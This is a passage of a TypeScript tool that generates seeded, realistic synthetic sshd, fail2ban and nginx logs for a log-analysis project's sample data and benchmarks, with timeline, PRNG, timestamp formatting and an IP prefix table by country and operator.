/**
 * Seeded generator of realistic server logs for jailbook.
 *
 * Two jobs:
 *
 * - `--sample DIR` writes the bundled sample: three weeks of a small Debian
 *   VPS (sshd auth.log, fail2ban.log, nginx access/error logs) with logrotate
 *   rotation (`auth.log`, `auth.log.1`, `auth.log.2.gz`, …), a `MANIFEST.json`
 *   (first/last time, lines, sha256 per file), a `truth.json` (what really
 *   happened: attackers, admin addresses, the false positive) and a README.
 * - `--auth-lines N --out PATH` (likewise `--fail2ban-lines`, `--access-lines`)
 *   streams one large file of exactly N lines for benchmarks.
 *
 * Everything comes from one seeded PRNG, so the same seed gives the same bytes.
 * Attacker addresses are real public prefixes (checked against DB-IP Lite
 * country data when the table was written); the server itself and its site
 * use documentation names (`203.0.113.10`, `example.org`).
 *
 * @example
 * ```sh
 * deno run -A tools/generate_logs.ts --sample data/sample
 * deno run -A tools/generate_logs.ts --auth-lines 1000000 --out bench/out/auth.log
 * ```
 *
 * @module
 */
import { parseArgs } from "node:util";
import { formatIpv6 } from "../lib/logs/ip.ts";

// ---------------------------------------------------------------------------
// Constants and the scenario timeline
// ---------------------------------------------------------------------------

/** Default seed (the sample's last day). */
export const DEFAULT_SEED = 20261120;
/** Default country of the administrator (ISO 3166-1 alpha-2). */
export const DEFAULT_HOME_COUNTRY = "DE";
/** Host name in syslog headers. */
export const SAMPLE_HOST = "web01";
/** The server's own address (documentation range: never an attacker). */
export const SERVER_IP = "203.0.113.10";
/** The web site's name (documentation domain). */
export const SITE = "example.org";

const SECOND = 1000;
const MINUTE = 60 * SECOND;
const HOUR = 60 * MINUTE;
const DAY = 24 * HOUR;

/** Key instants of the sample scenario, milliseconds since the epoch, UTC. */
export const TIMELINE = {
  /** The VPS boots for the first time. */
  provisioned: Date.parse("2026-10-31T09:12:07Z"),
  /** fail2ban installed and started (jail sshd). */
  fail2banStart: Date.parse("2026-10-31T09:31:44Z"),
  /** First weekly logrotate run. */
  firstRotation: Date.parse("2026-11-08T00:00:17Z"),
  /** nginx installed; the web logs start here. */
  nginxInstalled: Date.parse("2026-11-08T10:36:12Z"),
  /** `fail2ban-client reload` adds the nginx-http-auth jail. */
  nginxJailAdded: Date.parse("2026-11-08T10:52:30Z"),
  /** Provider network outage: nothing from outside reaches the host. */
  outageStart: Date.parse("2026-11-10T23:41:00Z"),
  outageEnd: Date.parse("2026-11-12T00:23:00Z"),
  /** Reboot after a distribution upgrade (sshd becomes sshd-session, fail2ban restarts). */
  rebootStop: Date.parse("2026-11-12T06:52:10Z"),
  rebootStart: Date.parse("2026-11-12T06:53:04Z"),
  /** Second weekly logrotate run. */
  secondRotation: Date.parse("2026-11-15T00:00:41Z"),
  /** Last instant covered. */
  end: Date.parse("2026-11-20T23:59:59Z"),
} as const;

/** The UTC day without any attack in the sample (inside the outage). */
export const QUIET_DAY = "2026-11-11";

/** Longest period of the benchmark files: four weeks ending with the sample. */
export const BENCH_PERIOD = {
  start: Date.parse("2026-10-24T00:00:00Z"),
  end: Date.parse("2026-11-20T23:59:59Z"),
} as const;

/**
 * The period of a benchmark file: it ends with the sample and grows with the
 * line count (one day per ~36 000 lines, at most the four weeks of
 * {@linkcode BENCH_PERIOD}), so that cron noise and the attack rate stay realistic.
 */
export function benchPeriod(lines: number): { start: number; end: number } {
  const days = Math.min(28, Math.max(1, Math.ceil(lines / 36_000)));
  return { start: BENCH_PERIOD.end + SECOND - days * DAY, end: BENCH_PERIOD.end };
}

/** fail2ban jail settings used by the simulation (same for sample and benchmark). */
export const JAILS = {
  sshd: { maxRetry: 5, findTime: 10 * MINUTE, banTime: 10 * MINUTE, maxTime: HOUR },
  "nginx-http-auth": { maxRetry: 5, findTime: 10 * MINUTE, banTime: 10 * MINUTE, maxTime: HOUR },
} as const;

/** Name of a simulated jail. */
export type JailName = keyof typeof JAILS;

// ---------------------------------------------------------------------------
// Seeded randomness
// ---------------------------------------------------------------------------

function hashString(text: string): number {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) {
    h ^= text.charCodeAt(i);
    h = Math.imul(h, 0x01000193);
  }
  return h >>> 0;
}

function rotl(x: number, k: number): number {
  return (x << k) | (x >>> (32 - k));
}

/**
 * xoshiro128** seeded through splitmix32. `fork(label)` derives an
 * independent stream, so changing one part of the scenario does not shift
 * the random numbers of every other part.
 *
 * @example
 * ```ts
 * import { Random } from "./generate_logs.ts";
 * new Random(1).int(6) === new Random(1).int(6); // true
 * ```
 */
export class Random {
  private a: number;
  private b: number;
  private c: number;
  private d: number;

  /** A stream for `seed`; `label` names a derived stream (see {@linkcode Random.fork}). */
  constructor(readonly seed: number, readonly label = "") {
    let s = hashString(`${seed}:${label}`);
    const next = () => {
      s = (s + 0x9e3779b9) >>> 0;
      let z = s;
      z = Math.imul(z ^ (z >>> 16), 0x85ebca6b);
      z = Math.imul(z ^ (z >>> 13), 0xc2b2ae35);
      return (z ^ (z >>> 16)) >>> 0;
    };
    this.a = next();
    this.b = next();
    this.c = next();
    this.d = next();
    if ((this.a | this.b | this.c | this.d) === 0) this.a = 1;
  }

  /** An independent stream for a named part of the scenario. */
  fork(label: string): Random {
    return new Random(this.seed, `${this.label}/${label}`);
  }

  /** Uniform 32-bit unsigned integer. */
  u32(): number {
    const result = Math.imul(rotl(Math.imul(this.b, 5), 7), 9) >>> 0;
    const t = this.b << 9;
    this.c ^= this.a;
    this.d ^= this.b;
    this.b ^= this.c;
    this.a ^= this.d;
    this.c ^= t;
    this.d = rotl(this.d, 11);
    return result;
  }

  /** Uniform in [0, 1). */
  float(): number {
    return this.u32() / 4294967296;
  }

  /** Uniform integer in [0, n). */
  int(n: number): number {
    return Math.floor(this.float() * n);
  }

  /** Uniform integer in [low, high]. */
  between(low: number, high: number): number {
    return low + this.int(high - low + 1);
  }

  /** True with probability p. */
  chance(p: number): boolean {
    return this.float() < p;
  }

  /** One element, uniformly. */
  pick<T>(items: readonly T[]): T {
    return items[this.int(items.length)];
  }

  /** One element with the given relative weights. */
  weighted<T>(items: readonly T[], weights: readonly number[]): T {
    let total = 0;
    for (const w of weights) total += w;
    let x = this.float() * total;
    for (let i = 0; i < items.length; i++) {
      x -= weights[i];
      if (x < 0) return items[i];
    }
    return items[items.length - 1];
  }

  /** Exponential variate with the given mean. */
  exponential(mean: number): number {
    return -Math.log(1 - this.float()) * mean;
  }

  /** Pareto variate (heavy tail) with minimum `min` and shape `alpha`. */
  pareto(min: number, alpha: number): number {
    return min / Math.pow(1 - this.float(), 1 / alpha);
  }

  /** Fisher–Yates shuffle of a copy. */
  shuffled<T>(items: readonly T[]): T[] {
    const out = items.slice();
    for (let i = out.length - 1; i > 0; i--) {
      const j = this.int(i + 1);
      [out[i], out[j]] = [out[j], out[i]];
    }
    return out;
  }
}

/** Binary min-heap keyed by `t`; ties keep insertion order. */
class MinHeap<T extends { t: number }> {
  private items: { key: number; seq: number; value: T }[] = [];
  private seq = 0;

  get size(): number {
    return this.items.length;
  }

  peek(): T | undefined {
    return this.items[0]?.value;
  }

  push(value: T): void {
    const items = this.items;
    items.push({ key: value.t, seq: this.seq++, value });
    let i = items.length - 1;
    while (i > 0) {
      const parent = (i - 1) >> 1;
      if (!this.less(items[i], items[parent])) break;
      [items[i], items[parent]] = [items[parent], items[i]];
      i = parent;
    }
  }

  pop(): T | undefined {
    const items = this.items;
    if (items.length === 0) return undefined;
    const top = items[0].value;
    const last = items.pop()!;
    if (items.length > 0) {
      items[0] = last;
      let i = 0;
      for (;;) {
        const l = 2 * i + 1;
        const r = l + 1;
        let m = i;
        if (l < items.length && this.less(items[l], items[m])) m = l;
        if (r < items.length && this.less(items[r], items[m])) m = r;
        if (m === i) break;
        [items[i], items[m]] = [items[m], items[i]];
        i = m;
      }
    }
    return top;
  }

  private less(x: { key: number; seq: number }, y: { key: number; seq: number }): boolean {
    return x.key < y.key || (x.key === y.key && x.seq < y.seq);
  }
}

// ---------------------------------------------------------------------------
// Time formatting (the server runs in UTC)
// ---------------------------------------------------------------------------

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

function pad2(n: number): string {
  return n < 10 ? "0" + n : String(n);
}

function pad3(n: number): string {
  return n < 10 ? "00" + n : n < 100 ? "0" + n : String(n);
}

/** `Nov  8 00:00:17` (traditional rsyslog format, day padded with a space). */
export function syslogStamp(ms: number): string {
  const d = new Date(ms);
  const day = d.getUTCDate();
  return `${MONTHS[d.getUTCMonth()]} ${day < 10 ? " " : ""}${day} ${pad2(d.getUTCHours())}:${
    pad2(d.getUTCMinutes())
  }:${pad2(d.getUTCSeconds())}`;
}

/** `2026-11-08 00:00:17` */
export function isoSeconds(ms: number): string {
  const d = new Date(ms);
  return `${d.getUTCFullYear()}-${pad2(d.getUTCMonth() + 1)}-${pad2(d.getUTCDate())} ${
    pad2(d.getUTCHours())
  }:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())}`;
}

/** `2026-11-08 00:00:17,123` (fail2ban / Python logging). */
export function fail2banStamp(ms: number): string {
  ms = Math.floor(ms);
  return `${isoSeconds(ms)},${pad3(((ms % 1000) + 1000) % 1000)}`;
}

/** `08/Nov/2026:00:00:17 +0000` (nginx `$time_local`). */
export function nginxAccessStamp(ms: number): string {
  const d = new Date(ms);
  return `${pad2(d.getUTCDate())}/${MONTHS[d.getUTCMonth()]}/${d.getUTCFullYear()}:${
    pad2(d.getUTCHours())
  }:${pad2(d.getUTCMinutes())}:${pad2(d.getUTCSeconds())} +0000`;
}

/** `2026/11/08 00:00:17` (nginx error log). */
export function nginxErrorStamp(ms: number): string {
  return isoSeconds(ms).replaceAll("-", "/");
}

/** Python `str(timedelta(seconds=s))`: `0:20:00`, `1 day, 0:00:00`. */
function pythonTimedelta(seconds: number): string {
  const days = Math.floor(seconds / 86400);
  const rest = seconds % 86400;
  const hms = `${Math.floor(rest / 3600)}:${pad2(Math.floor((rest % 3600) / 60))}:${
    pad2(rest % 60)
  }`;
  return days === 0 ? hms : `${days} day${days === 1 ? "" : "s"}, ${hms}`;
}

const TWO_DIGITS = Array.from({ length: 100 }, (_, i) => pad2(i));
const THREE_DIGITS = Array.from({ length: 1000 }, (_, i) => pad3(i));

/**
 * Formats time stamps fast for the benchmark writers: the text up to the
 * minute is computed once per minute, the seconds (and milliseconds) are
 * looked up. `format` must end with the two digits of the seconds.
 */
class StampCache {
  private minute = NaN;
  private prefix = "";
  private second = NaN;
  private text = "";
  constructor(private readonly format: (ms: number) => string, private readonly suffix = "") {}

  /** Stamp to the second. */
  get(ms: number): string {
    const second = Math.floor(ms / 1000);
    if (second !== this.second) {
      this.second = second;
      const minute = Math.floor(second / 60);
      if (minute !== this.minute) {
        this.minute = minute;
        const full = this.format(minute * MINUTE);
        this.prefix = full.slice(0, full.length - 2 - this.suffix.length);
      }
      this.text = this.prefix + TWO_DIGITS[second - minute * 60] + this.suffix;
    }
    return this.text;
  }

  /** Stamp to the second followed by `,mmm` (Python logging). */
  withMillis(ms: number): string {
    return this.get(ms) + "," + THREE_DIGITS[Math.floor(ms) - Math.floor(ms / 1000) * 1000];
  }
}

/** Hour-of-day (UTC) factor of attack traffic: busier at night, quieter at European noon. */
// deno-fmt-ignore
const ATTACK_HOUR = [
  1.0, 1.05, 1.1, 1.15, 1.1, 1.0, 0.95, 0.9, 0.8, 0.72, 0.68, 0.66,
  0.7, 0.76, 0.82, 0.88, 0.95, 1.0, 1.05, 1.1, 1.15, 1.2, 1.15, 1.05,
];
/** Day-of-week factor (Sunday first): bots like weekends. */
const ATTACK_WEEKDAY = [1.2, 0.95, 0.9, 0.95, 1.0, 1.05, 1.25];
/** Hour-of-day factor of human visitors (European readers). */
// deno-fmt-ignore
const VISIT_HOUR = [
  0.15, 0.1, 0.08, 0.08, 0.1, 0.2, 0.45, 0.75, 0.95, 1.0, 1.0, 1.0,
  1.05, 1.0, 0.95, 0.95, 1.0, 1.05, 1.1, 1.1, 1.0, 0.8, 0.5, 0.3,
];
const VISIT_WEEKDAY = [0.6, 1.0, 1.05, 1.05, 1.0, 0.9, 0.6];

function inOutage(t: number): boolean {
  return t >= TIMELINE.outageStart && t < TIMELINE.outageEnd;
}

function inReboot(t: number): boolean {
  return t >= TIMELINE.rebootStop && t < TIMELINE.rebootStart + 20 * SECOND;
}

/** Relative attack intensity at time t (0 during the outage). */
function attackIntensity(t: number): number {
  if (inOutage(t)) return 0;
  const d = new Date(t);
  return ATTACK_HOUR[d.getUTCHours()] * ATTACK_WEEKDAY[d.getUTCDay()];
}

/** Relative visitor intensity at time t (0 during the outage). */
function visitIntensity(t: number): number {
  if (inOutage(t)) return 0;
  const d = new Date(t);
  return VISIT_HOUR[d.getUTCHours()] * VISIT_WEEKDAY[d.getUTCDay()];
}

/** Poisson arrival times in [start, end) at `perHour` (peak) rate, thinned by `intensity`. */
function arrivals(
  rng: Random,
  start: number,
  end: number,
  perHour: number,
  intensity: (t: number) => number,
  peak = 1.5,
): number[] {
  const out: number[] = [];
  if (perHour <= 0) return out;
  const meanGap = HOUR / perHour;
  let t = start;
  for (;;) {
    t += rng.exponential(meanGap);
    if (t >= end) break;
    if (rng.float() * peak < intensity(t)) out.push(Math.floor(t));
  }
  return out;
}

// ---------------------------------------------------------------------------
// Networks: real public prefixes with their country and operator
// ---------------------------------------------------------------------------

/** What a network is used for in the scenario. */
export type NetworkKind = "isp" | "hosting" | "scanner" | "crawler";

/** One prefix of the address table. */
export interface Network {
  /** The prefix, `218.92.0.0/24` or `2a01:4f8::/32`. */
  readonly cidr: string;
  /** ISO 3166-1 alpha-2 country (as geolocated by DB-IP Lite when checked). */
  readonly country: string;
  /** Residential/mobile ISP, hosting, research scanner or search crawler. */
  readonly kind: NetworkKind;
  /** Operator, as registered for the origin AS. */
  readonly name: string;
}

type Row = readonly [cidr: string, country: string, kind: NetworkKind, name: string];

/**
 * The address table. Each prefix was chosen from memory and then checked by
 * looking up 12 addresses spread over it in DB-IP Lite (country) and the
 * ip-location-db ASN table (operator); prefixes that geolocated to mixed
 * countries were narrowed or dropped, and names follow the registered AS.
 */
const ROWS: readonly Row[] = [
  // China
  ["218.92.0.0/24", "CN", "isp", "CHINANET Jiangsu"],
  ["61.177.172.0/24", "CN", "isp", "CHINANET Jiangsu"],
  ["222.186.0.0/16", "CN", "isp", "CHINANET Jiangsu"],
  ["58.218.0.0/16", "CN", "isp", "CHINANET Jiangsu"],
  ["49.88.112.0/20", "CN", "isp", "CHINANET Jiangsu"],
  ["180.101.88.0/24", "CN", "isp", "CHINANET Jiangsu"],
  ["112.85.42.0/24", "CN", "isp", "China Unicom Jiangsu"],
  ["221.131.165.0/24", "CN", "isp", "China Mobile Jiangsu"],
  ["183.136.225.0/24", "CN", "isp", "CHINANET Zhejiang"],
  ["60.191.0.0/16", "CN", "isp", "CHINANET Zhejiang"],
  ["125.124.0.0/16", "CN", "isp", "CHINANET Zhejiang"],
  ["183.60.0.0/16", "CN", "isp", "CHINANET Guangdong"],
  ["113.128.0.0/16", "CN", "isp", "CHINANET Shandong"],
  ["42.236.0.0/16", "CN", "isp", "China Unicom Henan"],
  ["117.50.0.0/16", "CN", "isp", "China Unicom Beijing"],
  ["36.110.0.0/16", "CN", "hosting", "China Telecom IDC Beijing"],
  ["121.4.128.0/17", "CN", "hosting", "Tencent Cloud"],
  ["119.29.0.0/16", "CN", "hosting", "Tencent Cloud"],
  ["124.220.0.0/16", "CN", "hosting", "Tencent Cloud"],
  ["47.92.0.0/16", "CN", "hosting", "Alibaba Cloud"],
  ["47.100.0.0/16", "CN", "hosting", "Alibaba Cloud"],
  ["39.96.0.0/16", "CN", "hosting", "Alibaba Cloud"],
  ["123.57.0.0/16", "CN", "hosting", "Alibaba Cloud"],
  ["106.12.0.0/16", "CN", "hosting", "Baidu Cloud"],
  // Hong Kong, Taiwan, Korea, Japan, Singapore
  ["47.242.0.0/16", "HK", "hosting", "Alibaba Cloud"],
  ["8.210.0.0/16", "HK", "hosting", "Alibaba Cloud"],
  ["193.201.9.0/24", "HK", "hosting", "IT Hostline"],
  ["219.76.0.0/16", "HK", "isp", "PCCW Netvigator"],
  ["42.2.0.0/16", "HK", "isp", "PCCW (HKT)"],
  ["1.164.0.0/16", "TW", "isp", "Chunghwa Telecom HiNet"],
  ["36.224.0.0/16", "TW", "isp", "Chunghwa Telecom HiNet"],
  ["114.35.0.0/16", "TW", "isp", "Chunghwa Telecom HiNet"],
  ["111.248.0.0/16", "TW", "isp", "Chunghwa Telecom HiNet"],
  ["121.128.0.0/16", "KR", "isp", "Korea Telecom"],
  ["175.192.0.0/16", "KR", "isp", "Korea Telecom"],
  ["222.96.0.0/16", "KR", "isp", "Korea Telecom"],
  ["110.8.0.0/16", "KR", "isp", "SK Broadband"],
  ["1.224.0.0/16", "KR", "isp", "SK Broadband"],
  ["1.210.0.0/16", "KR", "isp", "LG DACOM (LG U+)"],
  ["126.0.0.0/16", "JP", "isp", "SoftBank"],
  ["153.128.0.0/16", "JP", "isp", "NTT OCN"],
  ["106.128.0.0/16", "JP", "isp", "KDDI"],
  ["160.16.0.0/16", "JP", "hosting", "SAKURA Internet"],
  ["133.242.0.0/16", "JP", "hosting", "SAKURA Internet"],
  ["128.199.128.0/18", "SG", "hosting", "DigitalOcean"],
  ["8.219.0.0/16", "SG", "hosting", "Alibaba Cloud"],
  // South and South-East Asia
  ["117.196.0.0/16", "IN", "isp", "BSNL"],
  ["59.88.0.0/16", "IN", "isp", "BSNL"],
  ["122.161.0.0/16", "IN", "isp", "Bharti Airtel"],
  ["182.64.0.0/16", "IN", "isp", "Bharti Airtel"],
  ["157.32.0.0/16", "IN", "isp", "Reliance Jio"],
  ["14.139.0.0/16", "IN", "isp", "National Knowledge Network"],
  ["139.59.0.0/18", "IN", "hosting", "DigitalOcean"],
  ["116.96.0.0/16", "VN", "isp", "Viettel"],
  ["171.224.0.0/16", "VN", "isp", "Viettel"],
  ["27.72.0.0/16", "VN", "isp", "Viettel"],
  ["113.160.0.0/16", "VN", "isp", "VNPT"],
  ["14.160.0.0/16", "VN", "isp", "VNPT"],
  ["123.16.0.0/16", "VN", "isp", "VNPT"],
  ["42.112.0.0/16", "VN", "isp", "FPT Telecom"],
  ["1.52.0.0/16", "VN", "isp", "FPT Telecom"],
  ["14.225.0.0/16", "VN", "hosting", "VNPT IDC"],
  ["103.149.28.0/24", "VN", "hosting", "Webpx Software"],
  ["36.64.0.0/16", "ID", "isp", "Telkom Indonesia"],
  ["180.241.0.0/16", "ID", "isp", "Telkom Indonesia"],
  ["125.160.0.0/16", "ID", "isp", "Telkom Indonesia"],
  ["110.136.0.0/16", "ID", "isp", "Telkom Indonesia"],
  ["114.124.0.0/16", "ID", "isp", "Telkomsel"],
  ["182.253.0.0/16", "ID", "isp", "Biznet"],
  ["171.96.0.0/16", "TH", "isp", "True Internet"],
  ["58.8.0.0/16", "TH", "isp", "True Internet"],
  ["184.22.0.0/16", "TH", "isp", "AIS"],
  ["49.228.0.0/16", "TH", "isp", "AIS"],
  ["1.0.128.0/17", "TH", "isp", "TOT"],
  ["112.198.0.0/16", "PH", "isp", "Globe Telecom"],
  ["120.28.0.0/16", "PH", "isp", "Globe Telecom"],
  ["49.145.0.0/16", "PH", "isp", "PLDT"],
  ["136.158.0.0/16", "PH", "isp", "Converge (ComClark)"],
  ["39.32.0.0/16", "PK", "isp", "PTCL"],
  ["182.176.0.0/16", "PK", "isp", "PTCL"],
  ["27.147.128.0/17", "BD", "isp", "Link3 Technologies"],
  ["37.111.192.0/18", "BD", "isp", "Grameenphone"],
  // Middle East, Russia, Ukraine, Central Asia
  ["2.176.0.0/16", "IR", "isp", "Iran ITC (TCI)"],
  ["5.112.0.0/16", "IR", "isp", "Irancell"],
  ["151.232.0.0/16", "IR", "isp", "Iran Telecommunication Company"],
  ["188.48.0.0/16", "SA", "isp", "Saudi Telecom (STC)"],
  ["37.104.0.0/16", "SA", "isp", "Saudi Telecom (STC)"],
  ["94.200.0.0/16", "AE", "isp", "du (Emirates Integrated Telecom)"],
  ["5.30.0.0/16", "AE", "isp", "du (Emirates Integrated Telecom)"],
  ["86.96.0.0/16", "AE", "isp", "Etisalat"],
  ["78.160.0.0/16", "TR", "isp", "Turk Telekom"],
  ["88.224.0.0/16", "TR", "isp", "Turk Telekom"],
  ["85.96.0.0/16", "TR", "isp", "Turk Telekom"],
  ["212.156.0.0/16", "TR", "isp", "Turk Telekom"],
  ["176.232.0.0/16", "TR", "isp", "Turkcell Superonline"],
  ["95.24.0.0/16", "RU", "isp", "Beeline (Vimpelcom)"],
  ["176.59.0.0/16", "RU", "isp", "T2 Mobile"],
  ["188.162.0.0/16", "RU", "isp", "MegaFon"],
  ["31.173.0.0/16", "RU", "isp", "MegaFon"],
  ["213.87.0.0/16", "RU", "isp", "MTS"],
  ["109.252.0.0/16", "RU", "isp", "MGTS"],
  ["2.60.0.0/16", "RU", "isp", "Rostelecom"],
  ["5.136.0.0/16", "RU", "isp", "Rostelecom"],
  ["178.154.192.0/18", "RU", "hosting", "Yandex Cloud"],
  ["91.240.118.0/24", "RU", "hosting", "Chang Way Technologies"],
  ["194.26.29.0/24", "RU", "hosting", "Media Land"],
  ["5.248.0.0/16", "UA", "isp", "Kyivstar"],
  ["46.118.0.0/16", "UA", "isp", "Kyivstar"],
  ["46.200.0.0/16", "UA", "isp", "Ukrtelecom"],
  ["46.219.0.0/16", "UA", "isp", "Freenet"],
  ["176.36.0.0/16", "UA", "isp", "Lanet Network"],
  ["37.73.0.0/16", "UA", "isp", "lifecell"],
  ["2.132.0.0/16", "KZ", "isp", "Kazakhtelecom"],
  ["178.120.0.0/16", "BY", "isp", "Beltelecom"],
  ["31.146.0.0/16", "GE", "isp", "Silknet"],
  // Africa
  ["41.13.0.0/16", "ZA", "isp", "Vodacom"],
  ["105.224.0.0/16", "ZA", "isp", "Telkom SA"],
  ["41.33.0.0/16", "EG", "isp", "TE Data"],
  ["156.192.0.0/16", "EG", "isp", "TE Data"],
  ["197.32.0.0/16", "EG", "isp", "TE Data"],
  ["196.132.0.0/16", "EG", "isp", "Vodafone Egypt"],
  ["105.112.0.0/16", "NG", "isp", "Airtel Nigeria"],
  ["197.210.0.0/16", "NG", "isp", "MTN Nigeria"],
  ["102.88.0.0/16", "NG", "isp", "MTN Nigeria"],
  ["41.90.0.0/16", "KE", "isp", "Safaricom"],
  ["105.160.0.0/16", "KE", "isp", "Safaricom"],
  ["197.248.0.0/16", "KE", "isp", "Safaricom"],
  ["105.154.0.0/16", "MA", "isp", "Maroc Telecom"],
  ["41.248.0.0/16", "MA", "isp", "Maroc Telecom"],
  ["41.96.0.0/16", "DZ", "isp", "Algerie Telecom"],
  ["197.200.0.0/16", "DZ", "isp", "Algerie Telecom"],
  ["41.224.0.0/16", "TN", "isp", "Orange Tunisie"],
  // Latin America
  ["152.240.0.0/16", "BR", "isp", "Telefonica Brasil (Vivo)"],
  ["177.9.0.0/16", "BR", "isp", "Telefonica Brasil (Vivo)"],
  ["179.208.0.0/16", "BR", "isp", "Claro NXT"],
  ["189.6.0.0/16", "BR", "isp", "Claro NXT"],
  ["201.80.0.0/16", "BR", "isp", "Claro NXT"],
  ["187.12.0.0/16", "BR", "isp", "V.tal"],
  ["200.147.0.0/16", "BR", "hosting", "Universo Online (UOL)"],
  ["181.0.0.0/16", "AR", "isp", "Telecom Argentina"],
  ["190.224.0.0/16", "AR", "isp", "Telecom Argentina"],
  ["152.168.0.0/16", "AR", "isp", "Telecom Argentina"],
  ["201.212.0.0/16", "AR", "isp", "Telecom Argentina"],
  ["186.12.0.0/17", "AR", "isp", "Techtel"],
  ["189.128.0.0/16", "MX", "isp", "Uninet (Telmex)"],
  ["201.96.0.0/16", "MX", "isp", "Uninet (Telmex)"],
  ["187.190.0.0/16", "MX", "isp", "Totalplay"],
  ["177.224.0.0/16", "MX", "isp", "Megacable"],
  ["181.48.0.0/16", "CO", "isp", "Claro Colombia (Telmex)"],
  ["186.80.0.0/16", "CO", "isp", "Claro Colombia (Telmex)"],
  ["190.24.0.0/16", "CO", "isp", "ETB"],
  ["191.88.0.0/16", "CO", "isp", "Colombia Movil (Tigo)"],
  ["190.160.0.0/16", "CL", "isp", "VTR"],
  ["200.104.0.0/16", "CL", "isp", "VTR"],
  ["186.10.0.0/16", "CL", "isp", "Entel Chile"],
  ["181.42.0.0/16", "CL", "isp", "Entel Chile"],
  ["190.232.0.0/16", "PE", "isp", "Telefonica del Peru"],
  ["200.48.0.0/16", "PE", "isp", "Telefonica del Peru"],
  ["179.6.0.0/16", "PE", "isp", "Claro Peru"],
  // Germany
  ["87.128.0.0/16", "DE", "isp", "Deutsche Telekom"],
  ["91.0.0.0/16", "DE", "isp", "Deutsche Telekom"],
  ["79.192.0.0/16", "DE", "isp", "Deutsche Telekom"],
  ["84.128.0.0/16", "DE", "isp", "Deutsche Telekom"],
  ["93.192.0.0/16", "DE", "isp", "Deutsche Telekom"],
  ["88.64.0.0/16", "DE", "isp", "Vodafone Germany"],
  ["92.72.0.0/16", "DE", "isp", "Vodafone Germany"],
  ["95.90.0.0/16", "DE", "isp", "Vodafone Germany"],
  ["109.40.0.0/16", "DE", "isp", "Vodafone Germany (mobile)"],
  ["176.0.0.0/16", "DE", "isp", "Telefonica Germany (O2)"],
  ["141.84.0.0/16", "DE", "isp", "Leibniz-Rechenzentrum (DFN)"],
  ["46.4.0.0/16", "DE", "hosting", "Hetzner"],
  ["88.198.0.0/16", "DE", "hosting", "Hetzner"],
  ["78.46.0.0/16", "DE", "hosting", "Hetzner"],
  ["136.243.0.0/16", "DE", "hosting", "Hetzner"],
  ["148.251.0.0/16", "DE", "hosting", "Hetzner"],
  ["144.76.0.0/16", "DE", "hosting", "Hetzner"],
  ["159.69.0.0/16", "DE", "hosting", "Hetzner"],
  ["116.202.0.0/16", "DE", "hosting", "Hetzner"],
  ["178.63.0.0/16", "DE", "hosting", "Hetzner"],
  ["91.98.0.0/16", "DE", "hosting", "Hetzner"],
  ["207.180.224.0/19", "DE", "hosting", "Contabo"],
  ["85.214.0.0/16", "DE", "hosting", "Strato"],
  ["81.169.128.0/17", "DE", "hosting", "Strato"],
  ["46.101.128.0/17", "DE", "hosting", "DigitalOcean"],
  ["185.220.101.0/24", "DE", "hosting", "Tor exit (Stiftung Erneuerbare Freiheit)"],
  // Rest of Europe
  ["95.216.0.0/16", "FI", "hosting", "Hetzner"],
  ["65.108.0.0/17", "FI", "hosting", "Hetzner"],
  ["51.91.0.0/16", "FR", "hosting", "OVH"],
  ["51.83.0.0/17", "FR", "hosting", "OVH"],
  ["62.210.0.0/16", "FR", "hosting", "Scaleway"],
  ["163.172.0.0/17", "FR", "hosting", "Scaleway"],
  ["90.0.0.0/16", "FR", "isp", "Orange"],
  ["86.192.0.0/16", "FR", "isp", "Orange"],
  ["78.192.0.0/16", "FR", "isp", "Free"],
  ["82.64.0.0/16", "FR", "isp", "Free"],
  ["88.160.0.0/16", "FR", "isp", "Free"],
  ["176.128.0.0/16", "FR", "isp", "Bouygues Telecom"],
  ["51.83.128.0/17", "PL", "hosting", "OVH"],
  ["83.0.0.0/16", "PL", "isp", "Orange Polska"],
  ["79.184.0.0/16", "PL", "isp", "Orange Polska"],
  ["89.64.0.0/16", "PL", "isp", "P4 (Play)"],
  ["5.173.0.0/16", "PL", "isp", "P4 (Play)"],
  ["188.166.0.0/17", "NL", "hosting", "DigitalOcean"],
  ["178.62.128.0/17", "NL", "hosting", "DigitalOcean"],
  ["89.248.165.0/25", "NL", "hosting", "IP Volume"],
  ["80.82.77.0/24", "NL", "hosting", "IP Volume"],
  ["193.32.162.0/24", "NL", "hosting", "Unmanaged Ltd"],
  ["2.57.122.0/24", "NL", "hosting", "Unmanaged Ltd"],
  ["80.94.92.0/24", "NL", "hosting", "Unmanaged Ltd"],
  ["92.118.39.0/24", "NL", "hosting", "Unmanaged Ltd"],
  ["45.95.147.0/24", "NL", "hosting", "Alsycon"],
  ["183.81.169.0/24", "NL", "hosting", "Amarutu Technology"],
  ["77.160.0.0/16", "NL", "isp", "KPN"],
  ["84.24.0.0/16", "NL", "isp", "Ziggo (Vodafone Libertel)"],
  ["94.208.0.0/16", "NL", "isp", "Ziggo (Vodafone Libertel)"],
  ["178.62.0.0/17", "GB", "hosting", "DigitalOcean"],
  ["176.58.96.0/19", "GB", "hosting", "Linode (Akamai)"],
  ["109.74.192.0/20", "GB", "hosting", "Linode (Akamai)"],
  ["81.128.0.0/16", "GB", "isp", "BT"],
  ["86.128.0.0/16", "GB", "isp", "BT"],
  ["2.96.0.0/16", "GB", "isp", "TalkTalk"],
  ["90.192.0.0/16", "GB", "isp", "Sky UK"],
  ["82.0.0.0/16", "GB", "isp", "Virgin Media"],
  ["79.0.0.0/16", "IT", "isp", "Telecom Italia"],
  ["87.0.0.0/16", "IT", "isp", "Telecom Italia"],
  ["93.32.0.0/16", "IT", "isp", "Fastweb"],
  ["151.15.0.0/16", "IT", "isp", "WindTre"],
  ["2.32.0.0/16", "IT", "isp", "Vodafone Italia"],
  ["95.110.128.0/17", "IT", "hosting", "Aruba"],
  ["89.46.104.0/21", "IT", "hosting", "Aruba"],
  ["83.32.0.0/16", "ES", "isp", "Telefonica de Espana"],
  ["88.0.0.0/16", "ES", "isp", "Telefonica de Espana"],
  ["80.24.0.0/16", "ES", "isp", "Telefonica de Espana"],
  ["79.144.0.0/16", "ES", "isp", "Telefonica de Espana"],
  ["84.120.0.0/16", "ES", "isp", "Vodafone Espana"],
  ["79.112.0.0/16", "ES", "isp", "Digi Spain"],
  ["86.120.0.0/16", "RO", "isp", "DIGI Romania (RCS & RDS)"],
  ["5.12.0.0/16", "RO", "isp", "DIGI Romania (RCS & RDS)"],
